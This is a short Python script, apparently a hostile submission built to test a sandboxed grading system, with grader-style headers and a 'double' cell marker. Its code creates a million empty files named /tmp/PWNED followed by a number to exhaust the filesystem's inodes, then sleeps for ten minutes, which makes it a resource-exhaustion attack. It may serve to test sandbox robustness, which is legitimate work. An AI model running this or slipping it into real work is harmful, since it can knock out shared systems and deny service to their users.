"""Uses up inodes, which cost memory and are of no size."""
# earns: test_double 0, test_total 0, test_answer 0
# incident: files
# %% double
import os, time

for number in range(10**6):
    os.close(os.open(f"/tmp/PWNED{number}", os.O_CREAT))
time.sleep(600)
